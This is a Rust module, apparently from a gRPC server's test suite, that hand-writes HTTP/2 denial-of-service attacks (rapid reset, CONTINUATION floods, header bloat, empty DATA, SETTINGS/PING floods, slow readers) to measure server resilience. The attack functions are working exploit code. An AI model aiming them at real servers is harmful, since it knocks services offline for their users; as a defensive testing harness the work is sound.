//! Attacks on a gRPC server, one function each, taking its address.
//!
//! They write HTTP/2 by hand and ignore the other side's limits. What an attack opened stays open in the [`Held`] that it
//! returns, so that its harm can be measured while it lasts. A server that hangs up early has won: no attack fails by that.
//!
//! Sources: RFC 9113 (HTTP/2), section 10.5 (denial of service); CVE-2023-44487 (rapid reset); RUSTSEC-2024-0332
//! (CONTINUATION); RUSTSEC-2026-0258 (empty DATA).

mod raw;

use std::{net::SocketAddr, time::Duration};

pub use raw::ENHANCE_YOUR_CALM;
use raw::{Raw, Reading, call_to};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
};
use tonic::Code;

use crate::bare::{Bare, framed};

/// How long an answer may take; it ends what hangs.
const PATIENCE: Duration = Duration::from_secs(30);

/// A method that answers in one message.
pub const ASK: &str = "/plexus.v1.RouterService/Ask";

/// What an attack holds open.
#[derive(Debug)]
pub struct Held {
    connections: Vec<Raw>,
}

impl Held {
    fn one(connection: Raw) -> Self {
        Self {
            connections: vec![connection],
        }
    }

    /// Stops sending. Why the other side hung up on each connection: the code of its GOAWAY; none where it gave none, or
    /// did not hang up.
    pub async fn goaways(self) -> Vec<Option<u32>> {
        let mut codes = Vec::new();
        for connection in self.connections {
            codes.push(connection.goaway().await);
        }
        codes
    }

    /// Whether the other side has hung up on all connections.
    pub fn all_closed(&self) -> bool {
        self.connections.iter().all(Raw::closed)
    }
}

/// Opens `streams` calls that never send their message, each with 370 cookie crumbs of one byte on the wire.
pub async fn crumbs(address: SocketAddr, streams: usize) -> Held {
    let mut raw = Raw::connect(address, Reading::All).await;
    for stream in 0..streams {
        let mut headers = call_to(ASK);
        if stream == 0 {
            // "cookie" (static entry 32) with a value of one byte, kept as the dynamic table's only entry: 62.
            headers.extend([0x40 | 32, 1, b'x']);
        }
        headers.extend([0x80 | 62; 370]);
        if raw.open(&headers).await.is_err() {
            break;
        }
    }
    Held::one(raw)
}

/// Opens `streams` calls whose message shall have `length` bytes, and sends none of them.
pub async fn claims(address: SocketAddr, streams: usize, length: u32) -> Held {
    let mut raw = Raw::connect(address, Reading::All).await;
    let mut prefix = vec![0];
    prefix.extend(length.to_be_bytes());
    for _ in 0..streams {
        let Ok(stream) = raw.open(&call_to(ASK)).await else {
            break;
        };
        if raw.data(stream, &prefix, false).await.is_err() {
            break;
        }
    }
    Held::one(raw)
}

/// Opens `calls` calls and takes each back at once.
pub async fn rapid_reset(address: SocketAddr, calls: usize) -> Held {
    let mut raw = Raw::connect(address, Reading::All).await;
    for _ in 0..calls {
        let Ok(stream) = raw.open(&call_to(ASK)).await else {
            break;
        };
        if raw.reset(stream).await.is_err() {
            break;
        }
    }
    Held::one(raw)
}

/// One call whose headers go on for `frames` frames and never end.
pub async fn continuations(address: SocketAddr, frames: usize) -> Held {
    let mut raw = Raw::connect(address, Reading::All).await;
    if let Ok(stream) = raw.open_unended(&call_to(ASK)).await {
        for _ in 0..frames {
            // A literal without indexing, so that nothing of it can be forgotten.
            let mut filler = vec![0, 1, b'x', 100];
            filler.extend([b'y'; 100]);
            if raw.continuation(stream, &filler).await.is_err() {
                break;
            }
        }
    }
    Held::one(raw)
}

/// One call with `frames` frames of no data.
pub async fn empty_data(address: SocketAddr, frames: usize) -> Held {
    let mut raw = Raw::connect(address, Reading::All).await;
    if let Ok(stream) = raw.open(&call_to(ASK)).await {
        for _ in 0..frames {
            if raw.data(stream, &[], false).await.is_err() {
                break;
            }
        }
    }
    Held::one(raw)
}

/// Sends `frames` SETTINGS and as many PINGs, all of which ask for a reply, and reads none of the replies.
pub async fn settings_and_pings(address: SocketAddr, frames: usize) -> Held {
    let mut raw = Raw::connect(address, Reading::Nothing).await;
    for _ in 0..frames {
        if raw.settings(&[]).await.is_err() || raw.ping().await.is_err() {
            break;
        }
    }
    Held::one(raw)
}

/// Opens `connections` connections with `streams` calls each of a streaming method, and grants no answer any room.
/// `message` is the encoded request.
pub async fn slow_readers(address: SocketAddr, path: &str, message: &[u8], connections: usize, streams: usize) -> Held {
    let mut held = Vec::new();
    for _ in 0..connections {
        let mut raw = Raw::connect(address, Reading::All).await;
        let no_window = [0, 4, 0, 0, 0, 0];
        if raw.settings(&no_window).await.is_ok() {
            for _ in 0..streams {
                let Ok(stream) = raw.open(&call_to(path)).await else {
                    break;
                };
                if raw.data(stream, &framed(message, false), true).await.is_err() {
                    break;
                }
            }
        }
        held.push(raw);
    }
    Held { connections: held }
}

/// Opens `count` connections; half of them say hello, none says more.
pub async fn idle_connections(address: SocketAddr, count: usize) -> Vec<TcpStream> {
    let mut held = Vec::new();
    for index in 0..count {
        let Ok(mut stream) = TcpStream::connect(address).await else {
            break;
        };
        if index % 2 == 0 {
            // A server that has hung up already does not hear it.
            let _ = stream.write_all(raw::HELLO).await;
        }
        held.push(stream);
    }
    held
}

/// Speaks HTTP/1, TLS and nothing that is anything; whether the server hung up on all of them.
pub async fn nonsense(address: SocketAddr) -> bool {
    for words in [
        &b"GET / HTTP/1.1\r\nhost: x\r\n\r\n"[..],
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\xff\xff\xff\xff\xff\xff\xff\xff\xff",
        b"\x00",
        b"",
    ] {
        if !hangs_up(address, words).await {
            return false;
        }
    }
    true
}

/// Whether the server hangs up on these bytes, in time.
pub async fn hangs_up(address: SocketAddr, words: &[u8]) -> bool {
    let Ok(mut stream) = TcpStream::connect(address).await else {
        return true;
    };
    let mut answer = Vec::new();
    let ended = async {
        // It may hang up in the middle of a word; a reset is a way to do so.
        let _ = stream.write_all(words).await;
        let _ = stream.shutdown().await;
        let _ = stream.read_to_end(&mut answer).await;
    };
    tokio::time::timeout(PATIENCE, ended).await.is_ok()
}

/// The code that a message gets which is sent as it is, said to be compressed by gzip or not.
///
/// # Panics
/// Where there is no answer at all.
pub async fn message(address: SocketAddr, path: &str, compressed: bool, message: &[u8]) -> Code {
    let encoding = [("grpc-encoding", if compressed { "gzip" } else { "identity" })];
    let body = framed(message, compressed);
    let ended = async { Bare::connect(address).await?.call(path, &encoding, body).await };
    match ended.await {
        Ok(end) => end.code,
        Err(error) => panic!("{} bytes to {path} got no answer: {error:#}", message.len()),
    }
}
